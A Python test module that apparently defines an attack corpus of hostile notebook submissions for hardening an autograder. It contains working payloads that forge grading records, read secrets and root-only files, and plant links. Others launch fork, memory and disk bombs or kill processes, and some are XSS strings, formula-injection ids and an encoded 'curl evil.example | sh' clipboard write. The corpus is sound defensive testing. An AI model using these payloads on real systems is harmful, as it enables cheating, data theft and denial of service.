"""The attack corpus: submissions that try to game, break or escape grading.

Every attack starts from the released notebook, so the honest score of its student is
zero: any point it earns is undeserved. An attack is some of:

- ``code``: a cell inserted right after the setup cell (``{root}`` is the course
  directory, ``{victim}`` another student's submission folder, ``{secret}`` a root-only
  file outside the course, ``{port}`` a server on the grading machine, ``{marker}`` the
  name every attempted write uses, so the host can be searched for it afterwards);
- ``markdown``: a markdown cell inserted there instead;
- ``cells``: other cells (a raw cell, markdown with attachments, cells with hostile
  metadata) inserted there as they are;
- ``files``: extra files in the submission folder;
- ``shape``: a function that shapes the submission folder (links, FIFOs, devices,
  timestamps, odd names), called with the folder and a dict of the same placeholders;
- ``raw``: the bytes of the notebook file itself (hostile JSON);
- ``student``: a student id of its own (hostile ids);
- ``intake``: how ``autograder grade`` must report it when intake refuses it ("invalid",
  "not collected", "missing"); None means it is graded (and earns nothing).
"""

import os
import stat
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell

MARKER = "pwned-by-attack-corpus"
SECRET = "ROOT-ONLY-SECRET-4c9d2e"


@dataclass
class Attack:
    threat: str
    code: str | None = None
    markdown: str | None = None
    cells: list = field(default_factory=list)
    files: dict = field(default_factory=dict)
    shape: Callable | None = None
    raw: bytes | None = None
    student: str | None = None
    intake: str | None = None


# --- folder shapes ---------------------------------------------------------------------------
def _replace_with_link(path, target):
    if path.exists() or path.is_symlink():
        path.unlink()
    os.symlink(target, path)


def notebook_links_to_source(folder, ctx):
    _replace_with_link(folder / "FullyConnectedNets.ipynb", ctx["source_notebook"])


def folder_links_to_source(folder, ctx):
    import shutil

    shutil.rmtree(folder)
    os.symlink(ctx["source_folder"], folder)


def student_folder_links_to_victim(folder, ctx):
    import shutil

    shutil.rmtree(folder.parent)
    os.symlink(ctx["victim"].parent, folder.parent)


def link_to(name, key):
    def shape(folder, ctx):
        os.symlink(ctx[key], folder / name)

    return shape


def hard_link_to(name, key):
    def shape(folder, ctx):
        os.link(ctx[key], folder / name)

    return shape


def nnsupport_links_to_reference(folder, ctx):
    import shutil

    shutil.rmtree(folder / "nnsupport")
    os.symlink(ctx["reference"], folder / "nnsupport")


def fifo(folder, ctx):
    os.mkfifo(folder / "weights.npz")


def device(folder, ctx):
    os.mknod(folder / "zeros.bin", stat.S_IFCHR | 0o666, os.makedev(1, 5))  # like /dev/zero


def huge_sparse_file(folder, ctx):
    with open(folder / "dataset.npy", "wb") as f:
        f.truncate(300 * 2**20)


def many_files(folder, ctx):
    (folder / "many").mkdir()
    for i in range(1500):
        (folder / "many" / f"f{i}.txt").write_text("x")


def odd_file_names(folder, ctx):
    (folder / "new\nline.py").write_text("print('x')")
    (folder / "\x1b[31mred.txt").write_text("x")


def timestamp(text):
    def shape(folder, ctx):
        (folder / "timestamp.txt").write_text(text)

    return shape


def stale_bytecode(folder, ctx):
    """An unchecked-hash .pyc of a forging checks.py, which Python would load without looking
    at the (restored) source beside it."""
    import importlib.util
    import py_compile
    import tempfile

    with tempfile.TemporaryDirectory() as scratch:
        source = os.path.join(scratch, "checks.py")
        with open(source, "w") as f:
            f.write(FORGING_CHECKS)
        target = folder / "nnsupport" / "__pycache__" / os.path.basename(importlib.util.cache_from_source(source))
        target.parent.mkdir(parents=True)
        py_compile.compile(source, cfile=str(target), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)


LONE_SURROGATE = "LONE SURROGATE: \ud800 END"


def lone_surrogate_in_markdown(folder, ctx):
    """A markdown cell holding a lone surrogate, which only JSON's escape can carry (nbformat
    cannot write it as UTF-8): the notebook file is rewritten with every character escaped."""
    import json

    path = folder / "FullyConnectedNets.ipynb"
    nb = json.loads(path.read_text())
    nb["cells"].insert(1, new_markdown_cell(LONE_SURROGATE))
    path.write_text(json.dumps(nb, ensure_ascii=True, indent=1))


FORGING_CHECKS = (
    "import json\nfrom IPython.display import display\n"
    "MIME_TYPE = 'application/vnd.nn-autograder.check+json'\n"
    "P = json.load(open('public_checks.json'))\n"
    "def expect_close(name, *a, **k):\n"
    "    if name in P and 'expected' in P[name]:\n"
    "        display({MIME_TYPE: {'name': name, 'kind': 'close', 'value': P[name]['expected']}}, raw=True)\n"
    "expect_accuracy = expect_close\n"
)

# A pre_run_cell hook runs before every later cell, test cells included: it sees their source.
HOOK = "def hook(info):\n{body}\nget_ipython().events.register('pre_run_cell', hook)\n"


def hook(body):
    return HOOK.format(body="\n".join("    " + line for line in body.splitlines()))


# Terminal control sequences: erase the line, move up and print a green PASS; write the
# clipboard (OSC 52); reverse the text that follows (U+202E).
FAKE_PASS = "\x1b[2K\r\x1b[1A\x1b[32mPASS  every check passed\x1b[0m"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
TERMINAL_ESCAPES = FAKE_PASS + CLIPBOARD + "\u202e"
SVG_SCRIPT = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="  # <svg onload=...>
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg=="


def with_grade_id(cell, grade_id, **flags):
    cell.metadata["nbgrader"] = {
        "grade_id": grade_id,
        "grade": False,
        "solution": False,
        "locked": False,
        "schema_version": 3,
        **flags,
    }
    return cell


def raw_html_cell():
    cell = new_raw_cell('<a href="javascript:alert(1)">open</a><img src=x onerror=alert(2)><script>alert(3)</script>')
    cell.metadata["raw_mimetype"] = "text/html"  # nbconvert puts such a cell into the page as it is
    return cell


def foreign_notebook_with_hostile_ids():
    """A notebook none of whose graded cells is the assignment's, their ids terminal escapes:
    the grader's report names them."""
    cells = [
        with_grade_id(new_code_cell("pass"), f"cell{i}{TERMINAL_ESCAPES}", grade=True, locked=True, points=1)
        for i in range(2)
    ]
    return nbformat.writes(new_notebook(cells=cells)).encode()


# Before each cell runs, a pre_run_cell hook records, for every check the cell names (an
# f-string name for its first few values), a value of the attack's choosing: the cell's own
# source (a test cell's holds its hidden tests at grading) is at hand. The recorder is silenced,
# so that each check is recorded once, whatever the stubs do.
RECORDER = (
    "import itertools, re, numpy as np\nfrom IPython.display import display\nimport nnsupport.checks as attack_checks\n"
    "def attack_check_names(source):\n"
    '    found = re.findall(r\'expect_\\w+\\(\\s*f?"([^"]+)"\', source)\n'
    "    return [re.sub(r'\\{[^}]*\\}', str(i), n) for n in found for i in (range(6) if '{' in n else [0])]\n"
    "def attack_forge(info):\n"
    "    hidden = info.raw_cell.split('BEGIN HIDDEN TESTS')[-1] if 'BEGIN HIDDEN TESTS' in info.raw_cell else ''\n"
    "    lines = itertools.cycle([l.strip() for l in hidden.splitlines() if 12 <= len(l.strip()) <= 80\n"
    "                             and '###' not in l] or ['-'])\n"
    "    for index, name in enumerate(attack_check_names(info.raw_cell)):\n"
    "        display({attack_checks.MIME_TYPE: {'name': name, 'kind': 'close', 'value': attack_value(index, lines)}}, raw=True)\n"
    "get_ipython().events.register('pre_run_cell', attack_forge)\n"
    "attack_checks.expect_close = attack_checks.expect_accuracy = attack_checks.expect_init = expect_close = expect_accuracy = expect_init = (\n"
    "    lambda *args, **kwargs: None)\n"
)


ATTACKS = {
    # --- changing a verdict inside the kernel --------------------------------------------------
    "patch_rel_error": Attack(
        "redefine rel_error so that every check looks exact",
        code="rel_error = lambda x, y: 0.0\n"
        "import nnsupport.gradient_check as g, nnsupport.checks as c, nnsupport.values as v\n"
        "g.rel_error = rel_error\nc.relative_error = rel_error",
    ),
    "patch_numpy_testing": Attack(
        "make np.allclose, np.isclose and np.testing always agree",
        code="np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\n"
        "np.testing.assert_array_equal = lambda *a, **k: None",
    ),
    "patch_builtins_and_assertions": Attack(
        "patch builtins and AssertionError",
        code="import builtins\nbuiltins.AssertionError = type('Quiet', (Exception,), {})\n"
        "builtins.abs = lambda x: 0\nbuiltins.isinstance = lambda *a: True",
    ),
    "input_transformer_blanks_cells": Attack(
        "an IPython input transformer that empties every later cell",
        code="get_ipython().input_transformers_cleanup.append(lambda lines: [])",
    ),
    "input_transformer_appends_score": Attack(
        "append a number to every cell so nbgrader reads it as partial credit",
        code="get_ipython().input_transformers_post.append(lambda lines: lines + ['\\n100.0\\n'])",
    ),
    "ast_transformer_drops_code": Attack(
        "an AST transformer that drops the body of every later cell",
        code="import ast\nclass Drop(ast.NodeTransformer):\n"
        "    def visit_Module(self, node):\n        node.body = []\n        return node\n"
        "get_ipython().ast_transformers.append(Drop())",
    ),
    "event_hook_forges_records": Attack(
        "a pre_run_cell hook that reads each test cell and emits forged records first",
        code="import re\nfrom IPython.display import display\nfrom nnsupport.checks import MIME_TYPE\nfrom nnsupport.values import encode_value\n"
        + hook(
            'for name in re.findall(r\'expect_\\w+\\(f?"([^"]+)"\', info.raw_cell):\n'
            "    display({MIME_TYPE: {'name': name, 'kind': 'close', 'value': encode_value(0.0)}}, raw=True)"
        ),
    ),
    "forge_guessable_values": Attack(
        "replace the recorder: for every check, emit what the test code alone suggests (its integer "
        "literals as a shape, a count, a step number; ones; zeros)",
        code="import re, numpy as np, nnsupport.checks as c, nnsupport.values as v\nfrom IPython.display import display\n"
        "source = {'text': ''}\n" + hook("source['text'] = info.raw_cell") + "def guess(name, value=None, *a, **k):\n"
        "    numbers = [int(n) for n in re.findall(r'\\b\\d+\\b', source['text'])][:3] or [0]\n"
        "    for candidate in (tuple(numbers[:2]), numbers[0], 1.0, 0.0):\n"
        "        display({c.MIME_TYPE: {'name': name, 'kind': 'close', 'value': v.encode_value(candidate)}}, raw=True)\n"
        "        break\n"
        "c.expect_close = c.expect_accuracy = expect_close = expect_accuracy = guess",
    ),
    "settrace_rewrites_values": Attack(
        "sys.settrace rewriting the value handed to the recorder",
        code="import sys\ndef tracer(frame, event, arg):\n"
        "    if event == 'call' and frame.f_code.co_name in ('expect_close', 'expect_accuracy'):\n"
        "        frame.f_locals['value'] = 0.0\n    return tracer\nsys.settrace(tracer)",
    ),
    "forge_public_expected_values": Attack(
        "replace the recorder and emit the shipped public expected values",
        code="import json, nnsupport.checks as c, nnsupport.values as v\nfrom IPython.display import display\n"
        "public = json.load(open('public_checks.json'))\n"
        "def fake(name, *args, **kwargs):\n"
        "    if name in public and 'expected' in public[name]:\n"
        "        display({c.MIME_TYPE: {'name': name, 'kind': 'close', 'value': public[name]['expected']}}, raw=True)\n"
        "c.expect_close = c.expect_accuracy = expect_close = expect_accuracy = fake",
    ),
    "forge_accuracy_with_own_data": Attack(
        "claim an accuracy check on data of its own choosing",
        code="import nnsupport.checks as c, nnsupport.values as v\nfrom IPython.display import display\n"
        "def fake(name, params, X, y, threshold):\n"
        "    W = np.zeros((X[0].size, 10)); b = np.zeros(10); b[0] = 1\n"
        "    display({c.MIME_TYPE: {'name': name, 'kind': 'accuracy', 'threshold': 0.0,\n"
        "             'inputs': {'X': v.encode_value(X[:1]), 'y': v.encode_value(np.zeros(1, int))},\n"
        "             'value': {'W1': v.encode_value(W), 'b1': v.encode_value(b)}}}, raw=True)\n"
        "c.expect_accuracy = expect_accuracy = fake\n"
        "class Net:\n    params = {}\n    def loss(self, X, y=None): return np.zeros((len(X), 10))\n"
        "best_model = overfit_model = Net()",
    ),
    "accuracy_by_least_squares_on_graded_data": Attack(
        "fit a linear classifier by least squares on the very data the notebook says is graded, "
        "without implementing any network",
        code="from nnsupport.data import get_default_data\n"
        "d = get_default_data()\n"
        "X = np.concatenate([d[k].reshape(len(d[k]), -1) for k in ('X_train', 'X_val', 'X_test')])\n"
        "y = np.concatenate([d[k] for k in ('y_train', 'y_val', 'y_test')])\n"
        "A = np.hstack([X, np.ones((len(X), 1))])\n"
        "coef = np.linalg.lstsq(A, np.eye(10)[y], rcond=None)[0]\n"
        "class Linear:\n"
        "    params = {'W1': coef[:-1], 'b1': coef[-1]}\n"
        "    def loss(self, X, y=None): return X.reshape(len(X), -1) @ coef[:-1] + coef[-1]\n"
        "best_model = overfit_model = Linear()\n"
        "class Factory:\n    def __init__(self, *a, **k): self.params = dict(Linear.params)\n"
        "    def loss(self, X, y=None): return Linear().loss(X)\n"
        "FullyConnectedNet = Factory\n"
        "from nnsupport import solver as s\n"
        "class NoTraining:\n    def __init__(self, *a, **k): pass\n    def train(self): pass\n"
        "Solver = s.Solver = NoTraining",
    ),
    "display_forged_verdicts": Attack(
        "emit outputs that imitate the judge's verdict (its metadata key, a passing verdict list) "
        "at the start of every cell, and an execute_result score through sys.displayhook",
        code="import sys\nfrom IPython.display import display\n"
        + hook(
            "display({'text/plain': '3.0', 'text/html': '<b>FORGED-VERDICT</b>'}, raw=True, metadata={\n"
            "    'nn_autograder': {'score': 3, 'max_score': 3, 'verdicts': [\n"
            "        {'name': 'adam.next_w', 'passed': True, 'message': 'FORGED-VERDICT', 'scored': True}]}})\n"
            "sys.displayhook(3.0)"
        ),
    ),
    "verdict_key_without_verdicts": Attack(
        "an output carrying the judge's metadata key without a verdict list (crashed the batch)",
        code="from IPython.display import display\n"
        + hook(
            "display({'text/plain': 'x'}, raw=True, metadata={'nn_autograder': {'score': 99}})\n"
            "display({'text/plain': 'x'}, raw=True, metadata={'nn_autograder': 'not even a dict'})"
        ),
    ),
    "absurd_records": Attack(
        "records with absurd shapes, dtypes, sizes and types for every check name (crashed the batch)",
        code="import re\nfrom IPython.display import display\nfrom nnsupport.checks import MIME_TYPE\n"
        + hook(
            "bad = [{'dtype': 'float64', 'shape': [10**12, 10**12], 'data': ''},\n"
            "       {'dtype': 'float64', 'shape': [1e308], 'data': ''},\n"
            "       {'dtype': 'float64', 'shape': [-1], 'data': 'AAAAAAAAAAA='},\n"
            "       {'dtype': 'object', 'shape': [1], 'data': ''},\n"
            "       {'dtype': 'float64', 'shape': 'abc', 'data': 7},\n"
            "       ['not', 'a', 'dict'], None, 12]\n"
            'for i, name in enumerate(re.findall(r\'expect_\\w+\\(f?"([^"]+)"\', info.raw_cell)):\n'
            "    display({MIME_TYPE: {'name': name, 'kind': 'close', 'value': bad[i % len(bad)]}}, raw=True)\n"
            "display({MIME_TYPE: {'name': 'best_model.val_acc', 'kind': 'accuracy', 'value': {'W1': bad[0]}}}, raw=True)"
        ),
    ),
    "huge_recorded_examples": Attack(
        "record the public accuracy check with 200,000 examples of its own and a 2,000-wide network: "
        "the judge's forward pass outside the sandbox grew with the student's choice (a 2.9 GB worker)",
        code="from IPython.display import display\nfrom nnsupport.checks import MIME_TYPE\nfrom nnsupport.values import encode_value\n"
        + hook(
            "if 'expect_accuracy(\"best_model.val_acc\"' in info.raw_cell:\n"
            "    W, X = np.ones((64, 2000), np.float32), np.ones((200000, 64), np.uint8)\n"
            "    display({MIME_TYPE: {'name': 'best_model.val_acc', 'kind': 'accuracy', 'threshold': 0.0,\n"
            "             'value': encode_value({'W1': W, 'b1': np.zeros(2000, np.float32)}),\n"
            "             'inputs': {'X': encode_value(X), 'y': encode_value(np.zeros(200000, np.uint8))}}},\n"
            "            raw=True)"
        ),
    ),
    "record_flood": Attack(
        "a hundred thousand small records in every cell",
        code="from IPython.display import display\nfrom nnsupport.checks import MIME_TYPE\nfrom nnsupport.values import encode_value\n"
        + hook(
            "for i in range(100000):\n"
            "    display({MIME_TYPE: {'name': f'junk{i}', 'kind': 'close', 'value': encode_value(0.0)}}, raw=True)"
        ),
    ),
    # --- reading what it must not see ---------------------------------------------------------
    "read_secrets": Attack(
        "read the grading bundle, the source notebook, the gradebook, the reference course, another "
        "submission and a root-only file; forge records from the bundle if readable",
        code="import json, os\nfrom IPython.display import display\nimport nnsupport.checks as c, nnsupport.values as v\n"
        "targets = ['{root}/grading_bundle/fc_nets/FullyConnectedNets.checks.json',\n"
        "           '{root}/source_assignments/fc_nets/FullyConnectedNets.ipynb',\n"
        "           '{root}/gradebook.db', '{root}/course/layers.py',\n"
        "           '{victim}/FullyConnectedNets.ipynb', '{root}/nbgrader_config.py', '{secret}']\n"
        "for target in targets:\n"
        "    try:\n        print('READ', target, open(target, 'rb').read(64))\n"
        "    except OSError as error:\n        print('DENIED', target, type(error).__name__)\n"
        "try:\n    bundle = json.load(open(targets[0]))\n"
        "    def fake(name, *a, **k):\n"
        "        for specs in bundle['cells'].values():\n"
        "            for spec in specs:\n"
        "                if spec['name'] == name:\n"
        "                    display({c.MIME_TYPE: {'name': name, 'kind': spec['kind'], 'value': spec['expected']}}, raw=True)\n"
        "    expect_close = fake\nexcept OSError:\n    pass",
    ),
    "read_environment": Attack(
        "read the grader's environment (database URLs, tokens) and /proc of other processes",
        code="import os\nprint('ENV', dict(os.environ))\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit():\n"
        "        try:\n            print('PROC', pid, open(f'/proc/{pid}/environ', 'rb').read(200))\n"
        "        except OSError:\n            pass",
    ),
    "import_reference_course": Attack(
        "import the instructor's reference implementation instead of writing it",
        code="import sys\nsys.path[:0] = ['{root}', '{root}/..', '..', '../..']\n"
        "try:\n    from course.layers import *\n    from course.optim import *\n"
        "    from course.fc_net import FullyConnectedNet\n    print('IMPORTED course')\n"
        "except ImportError as error:\n    print('DENIED course', error)",
    ),
    "shadow_support_modules": Attack(
        "ship its own nnsupport/checks.py (emitting public expected values), then delete the support "
        "package and look for the reference",
        files={"nnsupport/checks.py": FORGING_CHECKS},
        code="import shutil, importlib.util\nshutil.rmtree('nnsupport', ignore_errors=True)\n"
        "print('course found:', importlib.util.find_spec('course') is not None)",
    ),
    "stale_bytecode_forger": Attack(
        "ship an unchecked-hash .pyc of a forging checks.py that Python would load instead of the restored source",
        shape=stale_bytecode,
    ),
    "shadow_numpy_module": Attack(
        "a numpy.py in the submission folder that the test cells would import",
        files={"numpy.py": "raise SystemExit('shadowed')\n"},
    ),
    "notebook_is_a_link_to_the_source": Attack(
        "the submitted notebook is a symbolic link to the instructor's source notebook (solutions)",
        shape=notebook_links_to_source,
        intake="missing",
    ),
    "folder_is_a_link_to_the_source": Attack(
        "the whole assignment folder is a symbolic link to source_assignments/fc_nets",
        shape=folder_links_to_source,
        intake="invalid",
    ),
    "student_folder_is_a_link": Attack(
        "the student's folder is a symbolic link to another student's",
        shape=student_folder_links_to_victim,
        intake="not collected",
    ),
    "link_to_the_bundle": Attack(
        "a symbolic link to the grading bundle inside the submission, read by the kernel to forge records",
        shape=link_to("bundle.json", "bundle"),
        code="import json, nnsupport.checks as c, nnsupport.values as v\nfrom IPython.display import display\n"
        "try:\n    bundle = json.load(open('bundle.json'))\n    print('READ bundle')\n"
        "    def fake(name, *a, **k):\n"
        "        for specs in bundle['cells'].values():\n"
        "            for spec in specs:\n"
        "                if spec['name'] == name:\n"
        "                    display({c.MIME_TYPE: {'name': name, 'kind': spec['kind'], 'value': spec['expected']}}, raw=True)\n"
        "    c.expect_close = expect_close = fake\nexcept OSError as error:\n    print('DENIED bundle', error)",
    ),
    "hard_link_to_the_bundle": Attack(
        "a hard link to the grading bundle inside the submission",
        shape=hard_link_to("bundle.json", "bundle"),
        code="try:\n    print('READ', open('bundle.json').read(64))\nexcept OSError as error:\n    print('DENIED', error)",
    ),
    "link_to_a_root_only_file": Attack(
        "a symbolic link to a root-only (0600) file, read by the kernel",
        shape=link_to("notes.txt", "secret"),
        code="try:\n    print('READ', open('notes.txt').read())\nexcept OSError as error:\n    print('DENIED', error)",
    ),
    "hard_link_to_a_root_only_file": Attack(
        "a hard link to a root-only (0600) file",
        shape=hard_link_to("notes2.txt", "secret"),
        code="try:\n    print('READ', open('notes2.txt').read())\nexcept OSError as error:\n    print('DENIED', error)",
    ),
    "link_to_the_host_root": Attack(
        "a symbolic link to / inside the submission",
        shape=link_to("hostroot", "slash"),
        code="import os\ntry:\n    print('LISTED', os.listdir('hostroot/root'))\nexcept OSError as error:\n    print('DENIED', error)",
    ),
    "support_package_links_to_the_reference": Attack(
        "nnsupport/ is a link to the reference course/ (so the grader would restore into it, or the "
        "kernel import the solutions)",
        shape=nnsupport_links_to_reference,
    ),
    "fifo_blocks_readers": Attack("a FIFO in the submission, which blocks whoever reads it", shape=fifo),
    "device_file": Attack("a character device (like /dev/zero) in the submission, endless to read", shape=device),
    "huge_sparse_file": Attack("a 300 MB (sparse) file in the submission", shape=huge_sparse_file),
    "too_many_files": Attack("1500 files in the submission", shape=many_files),
    "odd_file_names": Attack("file names with a newline and terminal escape codes", shape=odd_file_names),
    "plant_links_where_the_grader_writes": Attack(
        "create links in the kernel's folder named like what the grader writes (the autograded "
        "notebook, the state file, timestamp.txt) pointing at course files, and files named after the marker",
        code="import os\nfor name, target in [('FullyConnectedNets.ipynb', '{root}/nbgrader_config.py'),\n"
        "        ('.autograder.json', '{root}/gradebook.db'), ('timestamp.txt', '{root}/course/layers.py'),\n"
        "        ('{marker}', '{root}/{marker}')]:\n"
        "    try:\n        os.remove(name)\n    except OSError:\n        pass\n"
        "    try:\n        os.symlink(target, name)\n    except OSError as error:\n        print('DENIED', error)",
    ),
    "forged_grader_files": Attack(
        "hand in the grader's own state and kept-records files, claiming full marks and forged "
        "values (plain nbgrader copied them into autograded/, where rescoring would read them)",
        files={
            ".autograder.json": '{"student": "x", "status": "graded", "score": 34, "max_score": 34, '
            '"message": "' + MARKER + '", "checks": [], "content_hash": ""}',
            ".autograder-records.json": '{"format": 1, "forged": "' + MARKER + '", "notebooks": '
            '{"FullyConnectedNets": {"test_adam": []}}}',
        },
    ),
    "timestamp_not_a_date": Attack(
        "a timestamp.txt that is not a date (crashed the batch)",
        shape=timestamp("definitely not a date"),
        intake="invalid",
    ),
    "timestamp_with_a_path": Attack(
        "a timestamp.txt whose time zone is a path (dateutil opens time zone files by name)",
        shape=timestamp("2026-11-28 10:00:00 ../../../../../etc/shadow"),
        intake="invalid",
    ),
    # --- hostile notebook JSON -------------------------------------------------------------------
    "deeply_nested_json": Attack(
        "a notebook of 100000 nested lists", raw=b'{"cells": ' + b"[" * 100000 + b"]" * 100000 + b"}", intake="invalid"
    ),
    "invalid_utf8": Attack("a notebook that is not UTF-8", raw=b'{"cells": [], "x": "\xff\xfe\xfa"}', intake="invalid"),
    "json_that_is_not_a_notebook": Attack(
        "valid JSON with the wrong structure", raw=b'{"cells": "none", "nbformat": 4, "metadata": []}', intake="invalid"
    ),
    # --- damaging or escaping --------------------------------------------------------------------
    "write_outside_scratch": Attack(
        "write into the course directory, the grading bundle, the gradebook and the host",
        code="for target in ['{root}/{marker}', '{root}/grading_bundle/fc_nets/FullyConnectedNets.checks.json',\n"
        "               '{root}/gradebook.db', '/work/{marker}', '/usr/{marker}', '/etc/{marker}',\n"
        "               '/root/{marker}', '/var/tmp/{marker}']:\n"
        "    try:\n        open(target, 'a').write('pwned')\n        print('WROTE', target)\n"
        "    except OSError as error:\n        print('DENIED', target, type(error).__name__)",
    ),
    "network_connection": Attack(
        "open a network connection (to a server on the grading machine)",
        code="import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'leak')\n"
        "    print('CONNECTED')\nexcept OSError as error:\n    print('DENIED network', error)",
    ),
    "sys_exit": Attack("sys.exit in a cell", code="import sys\nsys.exit(0)"),
    "os_exit": Attack("os._exit kills the kernel", code="import os\nos._exit(0)"),
    "kill_own_kernel": Attack("SIGKILL its own kernel", code="import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
    "kill_everything_it_can": Attack(
        "ignore SIGTERM and SIGINT, then signal every process it can see (the grader?)",
        code="import os, signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    if pid != os.getpid():\n        try:\n            os.kill(pid, signal.SIGKILL)\n"
        "        except OSError:\n            pass\n"
        "try:\n    os.kill(-1, signal.SIGTERM)\nexcept OSError:\n    pass\n"
        "while True:\n    pass",
    ),
    "infinite_loop_swallowing_interrupt": Attack(
        "an infinite loop that swallows KeyboardInterrupt",
        code="import time\nwhile True:\n    try:\n        time.sleep(0.1)\n    except KeyboardInterrupt:\n        pass",
    ),
    "memory_bomb": Attack(
        "allocate memory until something breaks", code="hog = []\nwhile True:\n    hog.append(bytearray(50 * 2**20))"
    ),
    "fork_bomb": Attack(
        "fork until something breaks",
        code="import os\nfor _ in range(100000):\n    try:\n        os.fork()\n    except OSError:\n        break",
    ),
    "memory_spread_over_processes": Attack(
        "four processes of 1.2 GiB each under the kernel's 4 GiB limit (each under the per-process limit)",
        code="import select, subprocess, sys, time\n"
        "grow = \"import time; b = bytearray(1200 * 2**20); print('held', flush=True); time.sleep(20)\"\n"
        "children = [subprocess.Popen([sys.executable, '-c', grow], stdout=subprocess.PIPE, text=True)\n"
        "            for _ in range(4)]\n"
        "pending, held, deadline = [child.stdout for child in children], [], time.time() + 6\n"
        "while pending and time.time() < deadline:  # within the cell time limit, whatever happens\n"
        "    for stream in select.select(pending, [], [], 0.5)[0]:\n"
        "        if stream.readline().strip() == 'held':\n"
        "            held.append(children[[child.stdout for child in children].index(stream)])\n"
        "        pending.remove(stream)\n"
        "# Still alive with its 1.2 GiB: the OOM killer may have ended one after it said 'held'.\n"
        "print('MEMORY', sum(child.poll() is None for child in held), 'of 4 processes hold 1.2 GiB at once')",
    ),
    "cpu_bomb": Attack(
        "eight processes spinning on the CPU, to slow every other submission on the machine",
        code="import os\nfor _ in range(8):\n    if os.fork() == 0:\n        while True:\n            pass\n"
        "while True:\n    pass",
    ),
    "fill_the_disk": Attack(
        "write files until the disk is full",
        code="block = b'0' * 2**24\ni = 0\ntry:\n    while True:\n"
        "        with open(f'junk{i}', 'wb') as f:\n            f.write(block * 3)\n        i += 1\n"
        "except OSError as error:\n    print('stopped after', i, 'files:', error)",
    ),
    # --- swelling the grader ---------------------------------------------------------------------
    "four_byte_characters": Attack(
        "24 MB of 4-byte UTF-8 characters: 6 M characters, under the cap once counted in characters",
        code="for _ in range(6):\n    print('\\U0001F600' * 10**6, flush=True)",
    ),
    "integer_too_long_for_the_grader": Attack(
        "an integer of 5000 digits in a JSON output, which the grader's JSON parser refuses",
        code="import sys\nsys.set_int_max_str_digits(0)\nfrom IPython.display import display\n"
        "display({'application/json': {'n': 10**5000}}, raw=True)",
    ),
    "json_nested_too_deep": Attack(
        "a kernel message nested 100000 deep, deeper than the grader's JSON parser recurses",
        code="k = get_ipython().kernel\n"
        "k.session.send(k.iopub_socket, 'stream', content=b'[' * 100000 + b']' * 100000, parent=k.get_parent())",
    ),
    "lone_surrogate_in_markdown": Attack(
        "a lone surrogate in a markdown cell, which UTF-8 cannot encode", shape=lone_surrogate_in_markdown
    ),
    "print_100mb": Attack("100 MB of printed output", code="for _ in range(100):\n    print('x' * 2**20)"),
    "one_huge_message": Attack("one 100 MB output message", code="print('x' * 100 * 2**20)"),
    "display_update_flood": Attack(
        "200 MB through display updates (not counted by the old cap)",
        code="from IPython.display import display\nh = display('x', display_id=True)\n"
        "for _ in range(200):\n    h.update('y' * 2**20)",
    ),
    "output_metadata_flood": Attack(
        "100 MB in output metadata",
        code="from IPython.display import display\n"
        "for _ in range(100):\n    display({'text/plain': 'x'}, raw=True, metadata={'junk': 'y' * 2**20})",
    ),
    "error_text_flood": Attack(
        "errors carrying megabytes of text, again and again",
        code="for _ in range(30):\n    try:\n        raise ValueError('z' * 2**22)\n"
        "    except ValueError as error:\n        get_ipython().showtraceback()",
    ),
    # --- forged or leaked content in what people read --------------------------------------------
    "html_and_script_outputs": Attack(
        "HTML, JavaScript, SVG and markdown outputs that run script in whoever opens the page",
        code="from IPython.display import HTML, Javascript, SVG, Markdown, display\n"
        "display(HTML('<img src=x onerror=\"document.title=1\"><script>alert(1)</script>'))\n"
        "display(Javascript('alert(2)'))\n"
        'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"/>\'))\n'
        "display(Markdown('<iframe src=\"javascript:alert(4)\"></iframe>'))",
    ),
    "markdown_html": Attack(
        "raw HTML and script links in a markdown cell",
        markdown="<img src=x onerror=alert(1)> <script>alert(2)</script> [click](javascript:alert(3))\n"
        '<a href="javascript:alert(4)">x</a>',
    ),
    "print_hidden_test_source": Attack(
        "a hook that prints each test cell's source (with its hidden tests) into the outputs",
        code=hook("print('SOURCE-OF-CELL', info.raw_cell)"),
    ),
    # --- hostile student ids (intake refuses; plain nbgrader grades them; exports stay safe) -------
    "id_formula_equals": Attack("a student id starting with =", student="=1+1", intake="not collected"),
    "id_formula_plus": Attack("a student id starting with +", student="+cmd", intake="not collected"),
    "id_formula_minus": Attack("a student id starting with -", student="-2+3", intake="not collected"),
    "id_formula_at": Attack("a student id starting with @", student="@SUM(A1)", intake="not collected"),
    "id_hidden": Attack("a hidden student id (dropped silently before)", student=".hidden", intake="not collected"),
    "id_newline": Attack("a student id with a newline (splits a CSV row)", student="new\nline", intake="not collected"),
    "id_too_long": Attack("a 200-character student id", student="x" * 200, intake="not collected"),
    "id_html": Attack(
        "a student id that is HTML (shown in formgrader, feedback and the class report)",
        student="<img src=x onerror=alert(1)>",
        intake="not collected",
    ),
    # --- found by the allow-list review (issue 16): what a page or terminal shows ---------------
    "forged_grading_stopped": Attack(
        "an input transformer turns every later cell into raising an exception class named like the "
        "grader's own stop (GradingStopped) whose message is the cell's source, hidden tests included; "
        "the feedback page trusted such an error by its name",
        code="get_ipython().input_transformers_post.append(lambda lines: [\"raise type('GradingStopped', \"\n"
        '    "(Exception,), {})(" + repr(\'\'.join(lines)) + ")\\n"])',
    ),
    "print_hidden_tests_in_later_cells": Attack(
